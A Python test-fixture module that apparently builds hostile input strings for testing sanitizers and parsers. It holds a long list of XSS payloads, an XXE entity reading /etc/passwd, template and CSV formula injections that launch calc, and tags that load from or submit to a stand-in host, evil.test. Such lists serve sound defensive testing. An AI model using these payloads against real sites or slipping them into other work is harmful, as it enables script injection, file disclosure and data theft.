"""Strings that want to be more than text: the classics, and what is made of their pieces. Each that runs calls `hit()`
or asks http://evil.test/ for something.
"""

import random

CLASSICS = """\
<script>hit()</script>
</script><script>hit()</script>
</style><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
--><script>hit()</script>
]]><script>hit()</script>
]]></text><script>hit()</script><text>
<img src=x onerror=hit()>
"><img src=x onerror=hit()>
'><img src=x onerror=hit()>
<svg onload=hit()>
<svg><script>hit()</script></svg>
<svg/onload=hit()//
"/><svg/onload=hit()>
<body onload=hit()>
<iframe src=javascript:hit()>
<iframe srcdoc="<script>parent.hit()</script>">
<object data=http://evil.test/x>
<embed src=http://evil.test/x>
<link rel=stylesheet href=http://evil.test/x.css>
<base href=http://evil.test/>
<meta http-equiv=refresh content="0;url=http://evil.test/">
<form action=http://evil.test/><input type=submit>
<a href=javascript:hit()>x</a>
<details open ontoggle=hit()>
<input autofocus onfocus=hit()>
<video src=x onerror=hit()>
<math><mi xlink:href=javascript:hit()>
<style>*{background:url(http://evil.test/x)}</style>
" style="background:url(http://evil.test/x)
" onmouseover="hit()
' onmouseover='hit()
` onmouseover=`hit()
" autofocus onfocus="hit()
javascript:hit()
data:text/html,<script>hit()</script>
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&quot;&gt;&lt;svg onload=hit()&gt;
<!--<img src="--><img src=x onerror=hit()//">
<![CDATA[<script>hit()</script>]]>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<?xml version="1.0"?><script>hit()</script>
<xsl:script>hit()</xsl:script>
<foreignObject><body onload=hit()></foreignObject>
<use href=http://evil.test/x#y />
<image href=http://evil.test/x />
{{constructor.constructor('hit()')()}}
${hit()}
{% include 'x' %}{{ 7*7 }}
`${hit()}`
\\u003cscript\\u003ehit()\\u003c/script\\u003e
';hit();//
";hit();//
\\";hit();//
*/hit();/*
=HYPERLINK("http://evil.test/")
@SUM(1+1)*cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
[x](javascript:hit())
![x](http://evil.test/x)
$\\href{javascript:hit()}{x}$
__proto__
constructor
%00%3Cscript%3Ehit()%3C/script%3E
) /JS (hit()) /S /JavaScript (
endstream endobj
<scr<script>ipt>hit()</scr</script>ipt>
<IMG SRC=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;hit()>
""".splitlines()
ODD = [
    *("\u202e<script>hit()</script>\u202c", "\u2028hit()\u2029", "\ufeff<b>", "\x0b<i>\x0c", "a\x7f\x85<u>"),
    *(
        "<\u0338script>hit()",
        "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
        "\ufffe\uffff<b>",
        "\U000e0001<b>",
        "👩‍👩‍👧<img src=x onerror=hit()>",
    ),
    *("\x1b]8;;http://evil.test/\x07x\x1b]8;;\x07", "\x1b[31mred", "\r\n<b>", "\t=1+1", "a,b;\"c\"\n'd'", "\ud800<b>"),
]
PIECES = [
    *"<>\"'`&=/\\;:(){}[]%$#!-?* \n",
    "script",
    "svg",
    "img",
    "onload",
    "onerror",
    "hit()",
    "]]>",
    "-->",
    "<!--",
    "</",
]
PIECES += [
    "href",
    "javascript:",
    "http://evil.test/",
    "style",
    "&lt;",
    "&#60;",
    "\\u003c",
    "x",
    "é",
    "猫",
    "\u202e",
    "text",
]


def hostile(count: int, seed: int = 1) -> list[str]:
    """Return so many different strings, the classics first."""
    made = dict.fromkeys([*CLASSICS, *ODD])
    dice = random.Random(seed)
    while len(made) < count:
        one = "".join(dice.choices(PIECES, k=dice.randint(2, 9)))
        if dice.random() < 0.3:
            classic = dice.choice(CLASSICS)
            at = dice.randint(0, len(classic))
            one = classic[:at] + one + classic[at:]
        made.setdefault(one)
    return list(made)[:count]
